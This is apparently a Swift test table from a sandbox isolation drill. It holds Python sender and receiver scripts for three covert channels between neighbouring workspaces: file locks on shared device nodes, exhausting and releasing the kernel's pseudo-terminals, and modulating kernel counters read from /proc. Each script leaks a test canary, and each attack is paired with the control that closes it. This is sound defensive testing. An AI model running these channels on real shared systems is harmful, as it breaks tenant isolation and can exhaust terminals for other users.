extension AttackTable {
  /// Signals through things of which the kernel has one for all workspaces.
  static let shared: [Attack] = [
    Attack(
      id: "neighbour-device-locks", path: .tunnel, title: "locks on device nodes that both workspaces see",
      closedBy: "own device nodes each (launcher)", provesControls: [.privateDevices], needs: [.neighbour],
      tools: [.python],
      attempts: [
        Attempt(
          "four bits and a clock as five locks", tries: 1,
          deviceScript(
            #"""
            time.sleep(0.3)
            for byte in CANARY.encode():
                for half in (byte >> 4, byte & 15):
                    held = [open(path) for bit, path in enumerate(DATA) if half >> bit & 1] + [open(CLOCK)]
                    for file in held:
                        fcntl.flock(file, fcntl.LOCK_EX)
                    time.sleep(0.15)
                    # The clock goes first: what is read after it does not count.
                    for file in reversed(held):
                        file.close()
                    time.sleep(0.15)
            """#),
          receiver: deviceScript(
            #"""
            import select
            halves, was = [], False
            ready()
            while not select.select([sys.stdin], [], [], 0.005)[0]:
                now = taken(CLOCK)
                if now and not was:
                    halves.append(sum(taken(path) << bit for bit, path in enumerate(DATA)))
                was = now
            pairs = zip(halves[::2], halves[1::2])
            print(bytes(high << 4 | low for high, low in pairs).decode("latin-1"), flush=True)
            """#), evidence: [.receiver], seconds: 40, secretLength: 6)
      ]),
    Attack(
      id: "neighbour-terminals", path: .tunnel, title: "the kernel's last terminal",
      closedBy: "a share of the terminals each (kernel)", provesControls: [.terminalLimit],
      needs: [.neighbour], tools: [.python],
      attempts: [
        Attempt(
          "taking all terminals and giving one back", tries: 1,
          terminalScript(
            #"""
            children = []
            def fill():
                """Takes what there is; children take over when this process may open no more files."""
                held = []
                while True:
                    try:
                        held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
                    except OSError as error:
                        return held, error.errno == errno.ENOSPC
            soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
            held, full = fill()
            while not full and len(children) < 64:
                told, tell = os.pipe()
                child = os.fork()
                if child == 0:
                    for file in held:
                        os.close(file)
                    more, full = fill()
                    os.write(tell, b"f" if full else b"e")
                    time.sleep(60)
                    os._exit(0)
                children.append(child)
                full = os.read(told, 1) == b"f"
            # Whoever looks on takes some for a moment; they belong to those that are taken.
            end = time.monotonic() + 0.6
            while time.monotonic() < end:
                held += fill()[0]
                time.sleep(0.001)
            # A letter is as many terminals given back; between letters there is none.
            for letter in CANARY:
                count = ALPHABET.index(letter) + 1
                for _ in range(count):
                    os.close(held.pop())
                time.sleep(0.7)
                while count > 0:
                    try:
                        held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
                        count -= 1
                    except OSError:
                        time.sleep(0.001)
                time.sleep(0.7)
            for child in children:
                os.kill(child, 9)
            """#),
          receiver: terminalScript(
            #"""
            import select
            def free():
                """How many terminals are left, as far as 33."""
                held = []
                try:
                    while len(held) < 33:
                        held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
                except OSError:
                    pass
                for file in held:
                    os.close(file)
                return len(held)
            ready()
            found, most, none, begun = "", 0, 0, False
            while not select.select([sys.stdin], [], [], 0.01)[0]:
                left = free()
                begun = begun or left == 0
                none = 0 if left else none + 1
                # The most that was seen counts: what was just tried is free again a moment later only.
                most = max(most, left) if begun else 0
                if most and none == 4:
                    found += ALPHABET[min(most, 32) - 1]
                    most = 0
            print(found, flush=True)
            """#), evidence: [.receiver], seconds: 60, secretLength: 6)
      ]),
    Attack(
      id: "neighbour-kernel-counters", path: .tunnel, title: "numbers that the kernel shows to everybody",
      closedBy: "constant files in their place (sandbox)", provesControls: [.kernelFiles],
      needs: [.neighbour], tools: [.python],
      attempts: [
        Attempt(
          "terminals, threads and inodes as a signal", tries: 3,
          levelScript(
            #"""
            import threading
            time.sleep(0.4)
            folder = os.path.join(os.path.expanduser("~"), "cordon-drill-inodes")
            os.mkdir(folder)
            for letter in CANARY:
                level, stop = ALPHABET.index(letter) + 2, threading.Event()
                held = [attempt(os.open, "/dev/ptmx", os.O_RDWR | os.O_NOCTTY) for _ in range(level)]
                threads = [threading.Thread(target=stop.wait) for _ in range(level * 4)]
                for thread in threads:
                    attempt(thread.start)
                for number in range(level * 64):
                    attempt(os.mknod, f"{folder}/{number}")
                time.sleep(0.5)
                stop.set()
                for name in os.listdir(folder):
                    os.unlink(f"{folder}/{name}")
                for file in held:
                    if file is not None:
                        os.close(file)
                time.sleep(0.4)
            os.rmdir(folder)
            """#),
          receiver: levelScript(
            #"""
            # A level that rises is read as free space that falls.
            sources = [("/proc/sys/kernel/pty/nr", 1, lambda text: int(text)),
                       ("/proc/loadavg", 4, lambda text: int(text.split()[3].split("/")[1])),
                       ("/proc/sys/fs/inode-nr", 64, lambda text: int(text.split()[0]))]
            series = [(path, Levels(step), value) for path, step, value in sources]
            ready()
            while not ended():
                for path, levels, value in series:
                    try:
                        with open(path) as file:
                            levels.add(-value(file.read()))
                    except (OSError, ValueError, IndexError):
                        pass
            for path, levels, value in series:
                print(levels.secret(), flush=True)
            """#), evidence: [.receiver], seconds: 60, secretLength: 6)
      ]),
  ]

  /// Device nodes of which a host has one each. The drill's own process holds none of these locks.
  private static func deviceScript(_ text: String) -> Script {
    .python(
      #"""
      import fcntl
      CLOCK, DATA = "/dev/urandom", ("/dev/null", "/dev/zero", "/dev/full", "/dev/random")
      def taken(path):
          with open(path) as file:
              try:
                  fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
                  return False
              except OSError:
                  return True

      """# + text)
  }

  private static func terminalScript(_ text: String) -> Script {
    .python(
      #"""
      import errno, resource
      ALPHABET = "abcdefghijklmnopqrstuvwxyz234567"

      """# + text)
  }
}
